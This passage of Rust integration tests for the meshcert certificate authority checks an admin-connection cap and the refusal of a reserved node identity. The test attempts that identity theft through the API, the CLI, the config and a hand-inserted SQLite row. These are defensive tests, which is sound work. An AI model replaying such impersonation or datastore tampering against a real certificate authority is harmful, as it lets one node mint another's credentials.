    // The admin socket: 32 connections of an allowed peer hold every operator slot; the next
    // command is refused until they go.
    let held: Vec<std::os::unix::net::UnixStream> = (0..32)
        .map(|_| std::os::unix::net::UnixStream::connect(ca.admin_socket()).expect("connect"))
        .collect();
    let out = ca.ctl(&["status"]).expect("ctl");
    // A 33rd admin connection is closed unanswered.
    assert_ctl_refused(&out, 1, &["admin request failed"]);
    drop(held);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !ca.ctl(&["status"]).expect("ctl").status.success() {
        assert!(
            std::time::Instant::now() < deadline,
            "no admin service below the cap"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

/// `spiffe://<td>/meshcert/node/<name>` is a node's own identity: an entry there would let
/// every node it is assigned to mint that node's SVID. The admin API and the command line
/// refuse it with `reserved_id`, a config file declaring one is INVALID (exit 78 at start, the
/// previous config kept on a live edit), and no node gets it signed: not through an entry
/// written into the datastore by hand (skipping every check at creation), not as a local entry.
#[test]
fn the_node_identity_path_is_never_an_entry_nor_signed() {
    const STOLEN: &str = "spiffe://mesh-a.test/meshcert/node/node-2";
    // A mesh whose local entries are allowed (DISABLED), so only the reserved rule can refuse.
    let disabled = EXAMPLE_CONFIG.replace(
        "enforceAccessControl: ENABLED",
        "enforceAccessControl: DISABLED",
    );
    assert_ne!(disabled, EXAMPLE_CONFIG, "the example config changed shape");
    let mut ca = CaHolder::start(&disabled).expect("holder starts");
    let stolen = serde_json::json!({
        "id": "stolen",
        "spiffeId": STOLEN,
        "nodes": ["node-1"],
        "dir": "stolen",
    });

    // The admin API and the command line: refused with the code, nothing stored.
    let (status, body) = admin_call(&ca.admin_socket(), "POST", "/v1/entries", &body!(stolen));
    let e: ApiError = serde_json::from_slice(&body).expect("ApiError");
    assert_eq!(
        (status, e.code),
        (ErrorCode::ReservedId.http_status(), ErrorCode::ReservedId),
        "{}",
        e.message
    );
    assert!(
        e.message.contains("reserved for node identities"),
        "{}",
        e.message
    );
    let out = ca
        .ctl(&["entry", "create", "--spiffe-id", STOLEN, "--node", "node-1"])
        .expect("ctl");
    // A refusal by rule (403), not a malformed request: exit 1.
    assert_ctl_refused(&out, 1, &["reserved_id", "reserved for node identities"]);
    let out = ca.ctl(&["entry", "list", "-o", "json"]).expect("ctl");
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert!(
        list.as_array()
            .expect("array")
            .iter()
            .all(|e| e["spiffeId"] != STOLEN),
        "{list:#}"
    );

    // The config file: a live edit is INVALID and names the rule; the running config stays.
    let declared = format!(
        "{disabled}  - id: stolen\n    spiffeId: {STOLEN}\n    nodes: [node-1]\n    dir: stolen\n"
    );
    ca.write_config(&declared).expect("edit");
    let status = ca
        .wait_for_status("the edit refused", |s| {
            s["configStatus"]["state"] == "INVALID"
        })
        .expect("refused");
    let messages = status["configStatus"]["messages"].to_string();
    assert!(
        messages.contains("entries[1].spiffeId") && messages.contains("reserved for node"),
        "{messages}"
    );
    // ...and at start: exit 78, nothing written.
    let dir = tempfile::tempdir().expect("tempdir");
    let config = dir.path().join("stolen.yaml");
    std::fs::write(&config, &declared).expect("write");
    let out = meshcert_tests::output_within(
        &mut meshcert_tests::ca::run_command(&config, dir.path()),
        meshcert_tests::COMMAND_TIMEOUT,
    )
    .expect("runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(78), "{stderr}");
    assert!(stderr.contains("reserved for node identities"), "{stderr}");
    assert!(!dir.path().join("state").exists(), "nothing written");
    ca.write_config(&disabled).expect("restore");
    ca.wait_for_status("the good config back", |s| {
        s["configStatus"]["state"] == "ACCEPTED"
    })
    .expect("accepted");

    // An entry written into the datastore by hand (as an older holder might have stored it):
    // served to node-1, but its CSR is refused with the code, and so is the same ID asked
    // for as a local entry.
    ca.terminate().expect("stops");
    let db = ca.state_dir().join("meshcert.db");
    let insert = meshcert_tests::output_within(
        Command::new("python3").args([
            "-c",
            "import sqlite3, sys; c = sqlite3.connect(sys.argv[1]); \
             c.execute('INSERT INTO entries (id, body) VALUES (?, ?)', ('stolen', sys.argv[2])); \
             c.commit()",
            &db.display().to_string(),
            &stolen.to_string(),
        ]),
        meshcert_tests::COMMAND_TIMEOUT,
    )
    .expect("python3 runs");
    assert!(
        insert.status.success(),
        "{}",
        String::from_utf8_lossy(&insert.stderr)
    );
    ca.restart().expect("restarts");
    let (node, _, _) = join(&ca, "node-1");
    let a = ca
        .https("GET", "/v1/sync", None, Some(&node))
        .expect("sync");
    let sync: SyncResponse = serde_json::from_slice(&a.body).expect("sync");
    assert!(
        sync.entries.iter().any(|e| e.id == "stolen"),
        "the hand-written entry is not served, so the refusal below proves nothing: {sync:?}"
    );
    let local: meshcert_protocol::Entry = serde_json::from_value(
        serde_json::json!({"id": "local-stolen", "spiffeId": STOLEN, "dir": "x"}),
    )
    .expect("entry");
    let batch = SignRequest {
        csrs: vec![
            CsrRequest {
                entry_id: "stolen".into(),
                csr: csr(&p256(), &[STOLEN]),
                local: None,
            },
            CsrRequest {
                entry_id: "local-stolen".into(),
                csr: csr(&p256(), &[STOLEN]),
                local: Some(local),
            },
        ],
    };
    let a = ca
        .https("POST", "/v1/sign", Some(&body!(batch)), Some(&node))
        .expect("sign");
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
    let signed: SignResponse = serde_json::from_slice(&a.body).expect("sign answer");
    let refusals: Vec<(ErrorCode, String)> = signed
        .results
        .iter()
        .map(|r| match &r.outcome {
            SignOutcome::Refused { error } => (error.code, error.message.clone()),
            SignOutcome::Issued { svid, .. } => {
                panic!("{} was signed for node-1: {svid:?}", r.entry_id)
            }
        })
        .collect();
    assert_eq!(
        refusals.iter().map(|r| r.0).collect::<Vec<_>>(),
        vec![ErrorCode::ReservedId, ErrorCode::ReservedId],
        "{refusals:?}"
    );
}
